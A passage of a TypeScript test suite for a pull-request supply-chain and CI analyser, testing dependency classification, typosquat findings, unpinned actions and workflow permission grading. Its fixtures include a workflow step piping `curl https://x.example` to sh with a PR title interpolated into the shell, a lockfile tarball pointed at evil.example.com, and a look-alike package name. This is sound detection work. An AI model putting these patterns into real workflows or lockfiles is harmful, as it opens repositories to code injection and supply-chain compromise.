        change('package.json', pkg({ dependencies: { express: '^4.18.0', left: '^1.0.0' }, devDependencies: { vitest: '^1.0.0' } }), pkg({ dependencies: { express: '^4.19.0', chalk: '^5.3.0' }, devDependencies: { vitest: '^1.0.0' } })),
        change(
          'package-lock.json',
          npmLock(['express', 'left', 'vitest'], { express: { version: '4.18.2' }, left: { version: '1.0.0' }, vitest: { version: '1.6.0', dev: true }, ms: { version: '2.0.0' } }),
          npmLock(['express', 'chalk', 'vitest'], { express: { version: '4.19.2' }, chalk: { version: '5.3.0' }, vitest: { version: '1.6.0', dev: true }, ms: { version: '2.1.3' }, 'tiny-dev': { version: '1.0.0', dev: true } }),
        ),
      ),
    );
    expect(section.new_dependencies).toEqual([
      { ecosystem: 'npm', name: 'tiny-dev', version: '1.0.0', manifest: 'package-lock.json', dev: true, source: 'registry' },
      { ecosystem: 'npm', name: 'chalk', version: '5.3.0', manifest: 'package.json', dev: false, source: 'registry' },
    ]);
    expect(section.updated_dependencies).toEqual([
      { ecosystem: 'npm', name: 'ms', version: '2.1.3', manifest: 'package-lock.json', dev: false, source: 'registry', from_version: '2.0.0', to_version: '2.1.3', direction: 'upgrade' },
      { ecosystem: 'npm', name: 'express', version: '4.19.2', manifest: 'package.json', dev: false, source: 'registry', from_version: '4.18.2', to_version: '4.19.2', direction: 'upgrade' },
    ]);
    expect(section.removed_dependencies).toEqual([{ ecosystem: 'npm', name: 'left', version: '1.0.0', manifest: 'package.json', dev: false, source: 'registry' }]);
    expect(section.lockfile_changes).toEqual([{ path: 'package-lock.json', ecosystem: 'npm', manifest_changed: true }]);
  });

  it('counts a workspace manifest below the lockfile as its manifest', () => {
    const section = analyze(
      snapshotOf(
        change('packages/web/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { a: '^1.0.0' } })),
        change('pnpm-lock.yaml', "lockfileVersion: '9.0'\n", "lockfileVersion: '9.0'\n\npackages:\n\n  a@1.0.0:\n    resolution: {integrity: sha512-a}\n"),
      ),
    );
    expect(section.lockfile_changes).toEqual([{ path: 'pnpm-lock.yaml', ecosystem: 'npm', manifest_changed: true }]);
    expect(section.new_dependencies.map((d) => [d.name, d.version, d.manifest])).toEqual([['a', '1.0.0', 'packages/web/package.json']]);
  });

  it('counts the dependencies of an example or sample project as development ones; the same crate in the library is runtime', () => {
    const cargo = (deps: string): string => `[package]\nname = "demo"\nversion = "0.1.0"\npublish = false\n\n[dependencies]\n${deps}`;
    const section = analyze(
      snapshotOf(
        change('examples/templates/Cargo.toml', cargo('templater = "0.15"\n'), cargo('templater = "0.16"\nlogline = "0.3"\n')),
        change('crates/core/Cargo.toml', cargo('logline = "0.2"\n'), cargo('logline = "0.3"\n')),
        change('samples/guide/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { chalk: '^5.3.0' } })),
      ),
    );
    expect(section.updated_dependencies.map((d) => [d.manifest, d.name, d.dev])).toEqual([
      ['crates/core/Cargo.toml', 'logline', false],
      ['examples/templates/Cargo.toml', 'templater', true],
    ]);
    expect(section.new_dependencies.map((d) => [d.manifest, d.name, d.dev])).toEqual([
      ['examples/templates/Cargo.toml', 'logline', true],
      ['samples/guide/package.json', 'chalk', true],
    ]);
    // A look-alike in an example is still reported as one.
    const squat = analyze(snapshotOf(change('examples/web/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { expresss: '^4.0.0' } }))));
    expect(squat.findings.map((f) => [f.id, f.severity])).toContainEqual(['typosquat', 'high']);
  });

  it("counts the dependencies of Go's _examples/ module as development ones (the go tool skips it); a name that only ends in _examples stays runtime (chi history)", () => {
    const gomod = (path: string): string => `module ${path}\n\ngo 1.22\n\nrequire github.com/ajg/form v1.5.1\n`;
    const section = analyze(
      snapshotOf(
        change('_examples/versions/go.mod', null, gomod('example.com/versions')),
        change('cmd/my_examples/go.mod', null, gomod('example.com/cmd')),
      ),
    );
    expect(section.new_dependencies.map((d) => [d.manifest, d.name, d.dev])).toEqual([
      ['_examples/versions/go.mod', 'github.com/ajg/form', true],
      ['cmd/my_examples/go.mod', 'github.com/ajg/form', false],
    ]);
  });

  it("counts a .NET test project's packages as development ones, wherever its folder sits (src/Foo.Tests/, a root Foo.Specs/); a library whose name only starts with Test stays runtime (calib58)", () => {
    const csproj = (version: string): string => `<Project Sdk="Microsoft.NET.Sdk">\n  <ItemGroup>\n    <PackageReference Include="Newtonsoft.Json" Version="${version}" />\n  </ItemGroup>\n</Project>\n`;
    const paths = [
      'src/FluentValidation.Tests/FluentValidation.Tests.csproj',
      'tests/Acme.UnitTests/Acme.UnitTests.csproj',
      'Acme.Specs/Acme.Specs.csproj',
      'src/Acme/Acme.csproj',
      'src/Acme.Testcontainers/Acme.Testcontainers.csproj',
      'src/Testing.Abstractions/Testing.Abstractions.csproj',
      'src/Acme.Testing/Acme.Testing.csproj',
    ];
    const section = analyze(snapshotOf(...paths.map((path) => change(path, csproj('10.0.3'), csproj('13.0.3')))));
    expect(Object.fromEntries(section.updated_dependencies.map((d) => [d.manifest, d.dev]))).toEqual({
      'src/FluentValidation.Tests/FluentValidation.Tests.csproj': true,
      'tests/Acme.UnitTests/Acme.UnitTests.csproj': true,
      'Acme.Specs/Acme.Specs.csproj': true,
      'src/Acme/Acme.csproj': false,
      'src/Acme.Testcontainers/Acme.Testcontainers.csproj': false,
      'src/Testing.Abstractions/Testing.Abstractions.csproj': false,
      'src/Acme.Testing/Acme.Testing.csproj': false,
    });
  });

  it("counts the dependencies of a playground or of the documentation site at the top as development ones; a package's own, or a docs folder inside it, stays runtime", () => {
    const section = analyze(
      snapshotOf(
        change('docs/package.json', pkg({ dependencies: { 'oxc-minify': '^0.142.0' } }), pkg({ dependencies: { 'oxc-minify': '^0.144.0' } })),
        change('playground/js-sourcemap/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { 'oxc-parser': '^0.144.0' } })),
        change('packages/vite/package.json', pkg({ dependencies: { 'oxc-minify': '^0.142.0' } }), pkg({ dependencies: { 'oxc-minify': '^0.144.0' } })),
        change('packages/docs/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { marked: '^15.0.0' } })),
      ),
    );
    expect(section.updated_dependencies.map((d) => [d.manifest, d.name, d.dev])).toEqual([
      ['docs/package.json', 'oxc-minify', true],
      ['packages/vite/package.json', 'oxc-minify', false],
    ]);
    expect(section.new_dependencies.map((d) => [d.manifest, d.name, d.dev])).toEqual([
      ['packages/docs/package.json', 'marked', false],
      ['playground/js-sourcemap/package.json', 'oxc-parser', true],
    ]);
    // A look-alike in the documentation site is still reported as one.
    const squat = analyze(snapshotOf(change('docs/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { expresss: '^4.0.0' } }))));
    expect(squat.findings.map((f) => [f.id, f.severity])).toContainEqual(['typosquat', 'high']);
  });

  it("counts the dependencies of a project under a test or fixture folder as development ones (a test suite's own projects); a package named like one, or testing/, stays runtime", () => {
    const section = analyze(
      snapshotOf(
        change('tests/syntax-tests/source/Node/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { chalk: '^5.0.0' } })),
        change('test/fixtures/app/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { express: '^5.0.0' } })),
        change('packages/e2e/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { playwright: '^1.50.0' } })),
        change('packages/test-utils/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { zod: '^4.0.0' } })),
        change('testing/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { pino: '^9.0.0' } })),
      ),
    );
    expect(section.new_dependencies.map((d) => [d.manifest, d.name, d.dev])).toEqual([
      ['packages/e2e/package.json', 'playwright', true],
      ['packages/test-utils/package.json', 'zod', false],
      ['test/fixtures/app/package.json', 'express', true],
      ['testing/package.json', 'pino', false],
      ['tests/syntax-tests/source/Node/package.json', 'chalk', true],
    ]);
    // A look-alike in a fixture project is still reported as one (CI may install it).
    const squat = analyze(snapshotOf(change('test/fixtures/app/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { expresss: '^4.0.0' } }))));
    expect(squat.findings.map((f) => [f.id, f.severity])).toContainEqual(['typosquat', 'high']);
  });

  it("counts a Go tools module's requirements (a go.mod in a tools/ folder) as development ones; the root module's, and a tools/ folder of another ecosystem, stay runtime", () => {
    const mod = (module: string, require: string) => lines(`module ${module}`, '', 'go 1.24', '', require, '');
    const section = analyze(
      snapshotOf(
        change('tools/go.mod', mod('example.com/lib/tools', ''), mod('example.com/lib/tools', 'require github.com/golangci/golangci-lint/v2 v2.1.0')),
        change('internal/tools/go.mod', mod('example.com/lib/internal/tools', ''), mod('example.com/lib/internal/tools', 'require go.uber.org/mock v0.5.0')),
        change('go.mod', mod('example.com/lib', ''), mod('example.com/lib', 'require github.com/google/uuid v1.6.0')),
        change('tools/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { chalk: '^5.0.0' } })),
      ),
    );
    expect(section.new_dependencies.map((d) => [d.manifest, d.name, d.dev])).toEqual([
      ['go.mod', 'github.com/google/uuid', false],
      ['internal/tools/go.mod', 'go.uber.org/mock', true],
      ['tools/go.mod', 'github.com/golangci/golangci-lint/v2', true],
      ['tools/package.json', 'chalk', false],
    ]);
  });

  it("counts a package that Directory.Packages.props adds as a development one when every project file of the PR that references it is a test project's; one a library project references, or none, stays runtime", () => {
    const props = (...names: string[]) => lines('<Project>', '  <ItemGroup>', ...names.map((n) => `    <PackageVersion Include="${n}" Version="1.0.0" />`), '  </ItemGroup>', '</Project>', '');
    const project = (...names: string[]) => lines('<Project Sdk="Microsoft.NET.Sdk">', '  <ItemGroup>', ...names.map((n) => `    <PackageReference Include="${n}" />`), '  </ItemGroup>', '</Project>', '');
    const central = (...more: Change[]) =>
      analyze(snapshotOf(change('Directory.Packages.props', props('Polly'), props('Polly', 'Verify.Xunit', 'Bogus', 'Humanizer', 'Dapper')), ...more))
        .new_dependencies.filter((d) => d.manifest === 'Directory.Packages.props')
        .map((d) => [d.name, d.dev]);
    expect(
      central(
        change('test/Acme.Core.Tests/Acme.Core.Tests.csproj', project(), project('Verify.Xunit', 'Bogus')),
        change('src/Acme.Core/Acme.Core.csproj', project('Polly'), project('Polly', 'Humanizer')),
        change('test/Acme.Api.Tests/Acme.Api.Tests.csproj', project(), project('Humanizer')),
      ),
    ).toEqual([
      ['Bogus', true],
      ['Dapper', false],
      ['Humanizer', false],
      ['Verify.Xunit', true],
    ]);
  });

  it('does not list as new what a requirements include now reads from a file whose pins another changed manifest kept at the same version (`-r docs.in` to the compiled `-r docs.txt`)', () => {
    const docs = (sphinx: string): string => lines('alabaster==0.7.16', '    # via sphinx', `sphinx==${sphinx}`, '    # via -r docs.in', '');
    const dev = (extra: string): string => lines('alabaster==0.7.16', '    # via sphinx', extra, 'pre-commit==3.7.0', '    # via -r dev.in', 'sphinx==7.3.7', '    # via -r docs.in', '');
    const section = analyze(
      snapshotOf(
        change('requirements/dev.in', '-r docs.in\npre-commit\n', '-r docs.txt\npre-commit\n'),
        change('requirements/docs.txt', docs('7.3.6'), docs('7.3.7') + 'imagesize==1.4.1\n    # via sphinx\n'),
        change('requirements/dev.txt', dev('build==1.2.1\n    # via pip-tools'), dev('cachetools==5.3.3\n    # via tox')),
      ),
    );
    // alabaster and sphinx: dev.txt pinned them before and after, at the versions docs.txt gives dev.in. imagesize is new to the project.
    expect(section.new_dependencies.map((d) => [d.manifest, d.name])).toEqual([
      ['requirements/dev.in', 'imagesize'],
      ['requirements/dev.txt', 'cachetools'],
      ['requirements/docs.txt', 'imagesize'],
    ]);
    // Another version than the one kept, or a runtime manifest taking up a package only development files kept, is new.
    const other = analyze(
      snapshotOf(
        change('requirements.txt', 'flask==3.0.0\n', 'flask==3.0.0\nalabaster==0.7.16\n'),
        change('requirements/dev.in', 'pre-commit\n', 'pre-commit\nalabaster==0.7.17\n'),
        change('requirements/dev.txt', dev('build==1.2.1'), dev('cachetools==5.3.3')),
      ),
    );
    expect(other.new_dependencies.map((d) => [d.manifest, d.name])).toEqual([
      ['requirements.txt', 'alabaster'],
      ['requirements/dev.in', 'alabaster'],
      ['requirements/dev.txt', 'cachetools'],
    ]);
  });

  it("counts the dependencies of a private tooling package (packages-private/, tools/) as development ones; a private app's or a published package's stay runtime", () => {
    const explorer = (deps: Record<string, string>, extra: Record<string, unknown> = { private: true }) => pkg({ name: '@vue/template-explorer', ...extra, dependencies: deps });
    const section = analyze(
      snapshotOf(
        change('packages-private/template-explorer/package.json', explorer({ 'monaco-editor': '^0.47.0' }), explorer({ 'monaco-editor': '^0.52.0' })),
        change('tools/release/package.json', pkg({ private: true, dependencies: {} }), pkg({ private: true, dependencies: { execa: '^9.0.0' } })),
        change('apps/web/package.json', pkg({ private: true, dependencies: { next: '^14.0.0' } }), pkg({ private: true, dependencies: { next: '^15.0.0' } })),
        change('tools/cli/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { chalk: '^5.3.0' } })),
      ),
    );
    expect(section.updated_dependencies.map((d) => [d.manifest, d.name, d.dev])).toEqual([
      ['apps/web/package.json', 'next', false],
      ['packages-private/template-explorer/package.json', 'monaco-editor', true],
    ]);
    expect(section.new_dependencies.map((d) => [d.manifest, d.name, d.dev])).toEqual([
      ['tools/cli/package.json', 'chalk', false],
      ['tools/release/package.json', 'execa', true],
    ]);
    // A look-alike in a private tooling package is still reported as one.
    const squat = analyze(snapshotOf(change('packages-private/x/package.json', pkg({ private: true, dependencies: {} }), pkg({ private: true, dependencies: { expresss: '^4.0.0' } }))));
    expect(squat.findings.map((f) => [f.id, f.severity])).toContainEqual(['typosquat', 'high']);
  });

  it("leaves the repository's own actions and pnpm pinning itself out of the new dependencies; a new action or package beside them is listed", () => {
    const wf = (steps: string) => workflow(`
on: push
permissions:
  contents: read
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@${SHA}
${steps}`);
    const actions = analyze(snapshotOf(change('.github/workflows/ci.yml', wf('      - run: npm test\n'), wf(`      - uses: ./.github/actions/setup\n      - uses: ./v4\n      - uses: $/.github/actions/build\n      - uses: codecov/codecov-action@${SHA}\n`))));
    expect(actions.new_dependencies.map((d) => d.name)).toEqual(['codecov/codecov-action']);
    const lock = (pinned: string, extra = '') =>
      `---\nlockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    configDependencies: {}\n    packageManagerDependencies:\n${pinned}\npackages:\n\n  '@pnpm/exe@10.12.1':\n    resolution: {integrity: sha512-exe}\n    hasBin: true\n\n  '@pnpm/linux-x64@10.12.1':\n    resolution: {integrity: sha512-linux}\n    cpu: [x64]\n    os: [linux]\n${extra}\nsnapshots:\n\n  '@pnpm/exe@10.12.1':\n    optionalDependencies:\n      '@pnpm/linux-x64': 10.12.1\n\n  '@pnpm/linux-x64@10.12.1':\n    optional: true\n\n---\nlockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    devDependencies:\n      typescript:\n        specifier: ^5.6.0\n        version: 5.6.3\n\npackages:\n\n  typescript@5.6.3:\n    resolution: {integrity: sha512-ts}\n\nsnapshots:\n\n  typescript@5.6.3: {}\n`;
    const base = `lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    devDependencies:\n      typescript:\n        specifier: ^5.6.0\n        version: 5.6.3\n\npackages:\n\n  typescript@5.6.3:\n    resolution: {integrity: sha512-ts}\n\nsnapshots:\n\n  typescript@5.6.3: {}\n`;
    const exe = "      '@pnpm/exe':\n        specifier: 10.12.1\n        version: 10.12.1\n";
    const pnpm = analyze(snapshotOf(change('pnpm-lock.yaml', base, lock(exe))));
    expect(pnpm.new_dependencies).toEqual([]);
    // Another package in the package manager's section is no part of pnpm: listed.
    const extra = analyze(snapshotOf(change('pnpm-lock.yaml', base, lock(`${exe}      pnpm-helper-x:\n        specifier: 1.0.0\n        version: 1.0.0\n`, "\n  pnpm-helper-x@1.0.0:\n    resolution: {integrity: sha512-helper}\n"))));
    expect(extra.new_dependencies.map((d) => d.name)).toEqual(['pnpm-helper-x']);
    // And pnpm's own entries are still read by the lockfile checks.
    const tarball = analyze(snapshotOf(change('pnpm-lock.yaml', base, lock(exe).replace('{integrity: sha512-exe}', '{tarball: https://evil.example.com/exe.tgz}'))));
    expect(tarball.findings.some((f) => f.package === '@pnpm/exe')).toBe(true);
  });

  it("reads a step's docker:// image as the image a job's container of the base already runs: no new unpinned image; another image is one (calib66)", () => {
    // Modeled on a checkout action's PR that ran its test script in a `uses: docker://bitnami/git:latest`
    // step while another job of the workflow already ran `container: bitnami/git:latest`.
    const base = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n  b:\n    runs-on: ubuntu-latest\n    container: bitnami/git:latest\n    steps:\n      - run: git version\n';
    const step = (image: string) => base.replace('      - run: make test\n', `      - run: make test\n      - uses: docker://${image}\n        with:\n          args: bash test.sh\n`);
    const same = analyze(snapshotOf(change('.github/workflows/test.yml', base, step('bitnami/git:latest'))));
    expect(same.ci_changes.map((c) => c.findings.map((f) => f.id))).toEqual([[]]);
    const other = analyze(snapshotOf(change('.github/workflows/test.yml', base, step('alpine/git:latest'))));
    expect(other.ci_changes.map((c) => c.findings.map((f) => [f.id, f.severity, f.line]))).toEqual([[['docker-unpinned-image', 'medium', 7]]]);
  });

  it('lists every changed CI file with its findings, and actions and images as dependencies', () => {
    const section = analyze(
      snapshotOf(
        change('.github/workflows/ci.yml', workflow(`
on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v3
`), workflow(`
on: push
jobs:
  a:
    runs-on: ubuntu-latest
    container: node:20
    steps:
      - uses: actions/checkout@v4
`)),
        change('Dockerfile', 'FROM alpine:3.19\n', 'FROM alpine:3.20\n'),
      ),
    );
    expect(section.ci_changes.map((c) => [c.path, c.status, c.findings.map((f) => f.id)])).toEqual([
      ['.github/workflows/ci.yml', 'modified', ['docker-unpinned-image', 'gha-unpinned-action']],
      ['Dockerfile', 'modified', ['docker-unpinned-image']],
    ]);
    expect(section.updated_dependencies.map((d) => [d.ecosystem, d.name, d.from_version, d.to_version, d.direction])).toEqual([
      ['github-actions', 'actions/checkout', 'v3', 'v4', 'upgrade'],
      ['docker', 'alpine', '3.19', '3.20', 'upgrade'],
    ]);
  });

  it('lists no action as new that a workflow of the base already runs, from the same repository at any ref', () => {
    const wf = (steps: string): string => `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;
    const lint = change('.github/workflows/lint.yml', wf('      - run: make lint\n'), wf('      - uses: actions/setup-node@v4\n      - uses: actions/cache/restore@v4\n      - uses: octo/new-action@v1\n      - run: make lint\n'));
    const ci = wf('      - uses: actions/setup-node@v3\n      - uses: actions/cache@v4\n');
    // The base's ci.yml was read (snapshot.baseFiles): setup-node and cache are already run there.
    const known = analyze({ ...snapshotOf(lint), baseFiles: [{ path: '.github/workflows/ci.yml', content: ci }] });
    expect(known.new_dependencies.map((d) => d.name)).toEqual(['octo/new-action']);
    // Another changed workflow's base side counts the same way, and so do the same file's other jobs.
    const both = analyze(snapshotOf(lint, change('.github/workflows/ci.yml', ci, `${ci}      - run: make test\n`)));
    expect(both.new_dependencies.map((d) => d.name)).toEqual(['octo/new-action']);
    const sameFile = analyze(snapshotOf(change('.github/workflows/lint.yml', wf('      - uses: actions/cache@v4\n'), wf('      - uses: actions/cache@v4\n      - uses: actions/cache/save@v4\n'))));
    expect(sameFile.new_dependencies).toEqual([]);
    // Unknown base: each action is new. An action only the head of another workflow runs, or a base file that is no workflow, does not count.
    expect(analyze(snapshotOf(lint)).new_dependencies.map((d) => d.name)).toEqual(['actions/cache/restore', 'actions/setup-node', 'octo/new-action']);
    const added = analyze({ ...snapshotOf(lint, change('.github/workflows/ci.yml', null, ci)), baseFiles: [{ path: 'docs/ci.yml', content: ci }] });
    expect(added.new_dependencies.map((d) => d.name)).toEqual(['actions/cache', 'actions/setup-node', 'actions/cache/restore', 'actions/setup-node', 'octo/new-action']);
  });

  it('does not report what the base already had', () => {
    const body = workflow(`
on: pull_request_target
permissions: write-all
jobs:
  a:
    runs-on: self-hosted
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.head_ref }}
      - run: echo "\${{ github.event.pull_request.title }}" && curl https://x.example | sh
`);
    const section = analyze(snapshotOf(change('.github/workflows/ci.yml', body, `${body}\n# a comment\n`)));
    expect(section.findings).toEqual([]);
  });

  describe('workflow findings weighed against the base', () => {
    // A labeler on pull_request_target whose action is not among the known comment or label bots
    // and is not handed the job's token (in `with:` or the step's `env:`): nothing shows a need for the grant.
    const labeler = (permissions: string, job = 'size'): string =>
      workflow(`
on: [pull_request_target]
${permissions}
jobs:
  ${job}:
${permissions === '' ? '' : '    permissions:\n      pull-requests: write\n'}    runs-on: ubuntu-latest
    steps:
      - uses: acme-bots/pr-size-tagger@${SHA} # v1.8.1
        env:
          SIZE_LIMIT: 500
`);
    const grants = (section: ReturnType<typeof analyze>) => section.findings.filter((f) => f.id === 'gha-excessive-permissions').map((f) => [f.severity, f.line]);

    it('lowers a write scope granted where the base ran on the default token: the PR narrows the token to a list', () => {
      const section = analyze(snapshotOf(change('.github/workflows/size.yml', labeler(''), labeler('permissions:\n  contents: read'))));
      expect(grants(section)).toEqual([['low', 7]]);
      expect(section.findings.find((f) => f.id === 'gha-excessive-permissions')?.detail).toContain('narrows the token');
    });

    it('keeps a write scope high on a new workflow, a new job, or where the base already listed permissions', () => {
      expect(grants(analyze(snapshotOf(change('.github/workflows/size.yml', null, labeler('permissions:\n  contents: read')))))).toEqual([['high', 7]]);
      const otherJob = workflow(`
on: [pull_request_target]
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - run: make lint
`);
      expect(grants(analyze(snapshotOf(change('.github/workflows/size.yml', otherJob, labeler('permissions:\n  contents: read')))))).toEqual([['high', 7]]);
      const listed = labeler('permissions:\n  contents: read').replace('    permissions:\n      pull-requests: write\n', '');
      expect(grants(analyze(snapshotOf(change('.github/workflows/size.yml', listed, labeler('permissions:\n  contents: read')))))).toEqual([['high', 7]]);
      // write-all is never a narrowing.
      const writeAll = labeler('').replace('on: [pull_request_target]\n', 'on: [pull_request_target]\npermissions: write-all\n');
      expect(analyze(snapshotOf(change('.github/workflows/size.yml', labeler(''), writeAll))).findings.filter((f) => f.id === 'gha-excessive-permissions').map((f) => f.severity)).toEqual(['high']);
    });

    it('does not report a grant again when its job is only renamed, but does when the renamed job grants more', () => {
      const before = labeler('permissions:\n  contents: read', 'checkjdk11');
      expect(grants(analyze(snapshotOf(change('.github/workflows/size.yml', before, labeler('permissions:\n  contents: read', 'checks')))))).toEqual([]);
      const more = labeler('permissions:\n  contents: read', 'checks').replace('      pull-requests: write\n', '      pull-requests: write\n      issues: write\n');
      expect(analyze(snapshotOf(change('.github/workflows/size.yml', before, more))).findings.filter((f) => f.id === 'gha-excessive-permissions').map((f) => f.title)).toEqual([
        'job checks gets issues: write without a step that needs it',
      ]);
    });

    it('does not report a workflow grant moved down to the job that inherited it; a scope more, or a grant the base did not report, is', () => {
      // Modeled on fastapi/typer "Add zizmor and fix audit findings": `permissions: {}` at the top, the same scopes under the job.
      const atTop = (scopes: string) =>
        workflow(`
on:
  workflow_run:
    workflows: [Build Docs]
    types: [completed]
permissions:
${scopes}
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: acme-bots/preview-notes@${SHA} # v2.0.0
`);
      const inJob = (scopes: string) =>
        workflow(`
on:
  workflow_run:
    workflows: [Build Docs]
    types: [completed]
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-latest
    permissions:
${scopes.replace(/^/gm, '    ')}
    timeout-minutes: 5
    steps:
      - uses: acme-bots/preview-notes@${SHA} # v2.0.0
`);
      const base = atTop('  statuses: write\n  deployments: write');
      expect(grants(analyze(snapshotOf(change('.github/workflows/deploy.yml', null, base)))).map(([severity]) => severity)).toEqual(['high', 'high']);
      expect(grants(analyze(snapshotOf(change('.github/workflows/deploy.yml', base, inJob('  statuses: write\n  deployments: write')))))).toEqual([]);
      // A scope the workflow did not grant is new to the job.
      const more = analyze(snapshotOf(change('.github/workflows/deploy.yml', base, inJob('  statuses: write\n  deployments: write\n  contents: write'))));
      expect(more.findings.filter((f) => f.id === 'gha-excessive-permissions').map((f) => f.title)).toEqual(['job deploy gets contents: write without a step that needs it']);
    });

    it('lowers a moving ref of an action that a workflow the PR deletes followed by a moving ref, not one of another owner', () => {
      // Modeled on urfave/cli "Update GitHub Actions": golangci-lint.yml folded into a new lint.yml, the action one major later.
      const lint = (uses: string): string => workflow(`
on: [push, pull_request]
permissions:
  contents: read
jobs:
  golangci:
    runs-on: ubuntu-latest
    steps:
      - uses: ${uses}
`);
      const moved = analyze(snapshotOf(change('.github/workflows/golangci-lint.yml', lint('linters-org/lint-action@v3'), null), change('.github/workflows/lint.yml', null, lint('linters-org/lint-action@v5'))));
      const unpinned = moved.findings.filter((f) => f.id === 'gha-unpinned-action');
      expect(unpinned.map((f) => [f.severity, f.path, f.package])).toEqual([['info', '.github/workflows/lint.yml', 'linters-org/lint-action']]);
      expect(unpinned[0]?.detail).toContain('.github/workflows/golangci-lint.yml, which this PR removes or rewrites');
      // Kept in the other workflow (nothing moved), or another owner's action: medium.
      const kept = analyze(snapshotOf(change('.github/workflows/golangci-lint.yml', lint('linters-org/lint-action@v3'), `${lint('linters-org/lint-action@v3')}# kept\n`), change('.github/workflows/lint.yml', null, lint('linters-org/lint-action@v5'))));
      expect(kept.findings.filter((f) => f.id === 'gha-unpinned-action').map((f) => f.severity)).toEqual(['medium']);
      const other = analyze(snapshotOf(change('.github/workflows/golangci-lint.yml', lint('linters-org/lint-action@v3'), null), change('.github/workflows/lint.yml', null, lint('other-org/lint-action@v5'))));
      expect(other.findings.filter((f) => f.id === 'gha-unpinned-action').map((f) => f.severity)).toEqual(['medium']);
    });

    it('lowers a moving ref moved to another tag of an action the base already used unpinned, not a new unpinned action', () => {
      const uses = (ref: string, extra = ''): string => workflow(`
on: push
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - uses: linters-org/lint-action@${ref}${extra}
`);
      const bumped = analyze(snapshotOf(change('.github/workflows/lint.yml', uses('v3.7.0'), uses('v4.0.0'))));
      expect(bumped.findings.filter((f) => f.id === 'gha-unpinned-action').map((f) => [f.severity, f.package])).toEqual([['info', 'linters-org/lint-action']]);
      const added = analyze(snapshotOf(change('.github/workflows/lint.yml', uses('v3.7.0'), uses('v3.7.0', '\n      - uses: other-org/deploy@v1'))));
      expect(added.findings.filter((f) => f.id === 'gha-unpinned-action').map((f) => [f.severity, f.package])).toEqual([['medium', 'other-org/deploy']]);
    });
  });

  it('grades an action the file already used unpinned, moved to another tag, info (a reminder to pin); a new one or an unpinned pin keeps its severity', () => {
    const steps = (...uses: string[]): string => workflow(`
on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
${uses.map((u) => `      - uses: ${u}`).join('\n')}
`);
    const bumped = analyze(snapshotOf(change('.github/workflows/ci.yml', steps('actions/checkout@v5', 'some-org/phpstan-ga@0.12.23'), steps('actions/checkout@v6', 'some-org/phpstan-ga@0.12.27'))));
    expect(bumped.findings.filter((f) => f.id === 'gha-unpinned-action').map((f) => [f.package, f.severity])).toEqual([
      ['actions/checkout', 'info'],
      ['some-org/phpstan-ga', 'info'],
    ]);
    expect(bumped.findings.find((f) => f.package === 'some-org/phpstan-ga')!.detail).toMatch(/already followed some-org\/phpstan-ga by a moving ref/);
    // An action of the repository's own organization (acme) moved to another tag is info as well, not
    // raised to the own organization's low (a replay of an action's repository, actions/checkout, whose
    // workflows use actions/checkout@v3 → @v4, rated the Dependabot bump medium); a new one of its own is low.
    const own = analyze(snapshotOf(change('.github/workflows/ci.yml', steps('acme/setup-tool@v3'), steps('acme/setup-tool@v4', 'acme/deploy@v1'))));
    expect(own.findings.filter((f) => f.id === 'gha-unpinned-action').map((f) => [f.package, f.severity])).toEqual([
      ['acme/deploy', 'low'],
      ['acme/setup-tool', 'info'],
    ]);
    const added = analyze(snapshotOf(change('.github/workflows/ci.yml', steps('some-org/phpstan-ga@0.12.23'), steps('some-org/phpstan-ga@0.12.27', 'other-org/deploy@v2'))));
    expect(added.findings.filter((f) => f.id === 'gha-unpinned-action').map((f) => [f.package, f.severity])).toEqual([
      ['other-org/deploy', 'medium'],
      ['some-org/phpstan-ga', 'info'],
    ]);
    const unpinned = analyze(snapshotOf(change('.github/workflows/ci.yml', steps(`some-org/phpstan-ga@${SHA} # v1.2.3`), steps('some-org/phpstan-ga@v1.2.4'))));
    expect(unpinned.findings.filter((f) => f.id === 'gha-unpinned-action').map((f) => [f.package, f.severity])).toEqual([['some-org/phpstan-ga', 'medium']]);
  });

  it('does not report a workflow finding that moves with its job from one changed workflow into another; a worse one where it lands is reported', () => {
    const job = `
  pre-commit:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v6
      - uses: pre-commit/action@v3.0.1
`;
    const tests = `
  tests:
    runs-on: ubuntu-latest
    steps:
      - run: tox
`;
    const moved = analyze(
      snapshotOf(
        change('.github/workflows/main.yml', workflow(`\non: [push, pull_request]\njobs:${tests}`), workflow(`\non: [push, pull_request]\njobs:${job}${tests}`)),
        change('.github/workflows/pre-commit.yml', workflow(`\non: [push, pull_request]\njobs:${job}`), null),
      ),
    );
    expect(moved.findings.filter((f) => f.id === 'gha-unpinned-action')).toEqual([]);
    // The same action added to a second workflow while the first keeps it is new there.
    const copied = analyze(
      snapshotOf(
        change('.github/workflows/main.yml', workflow(`\non: [push, pull_request]\njobs:${tests}`), workflow(`\non: [push, pull_request]\njobs:${job}${tests}`)),
        change('.github/workflows/pre-commit.yml', workflow(`\non: [push, pull_request]\njobs:${job}`), workflow(`\non: [push]\njobs:${job}`)),
      ),
    );
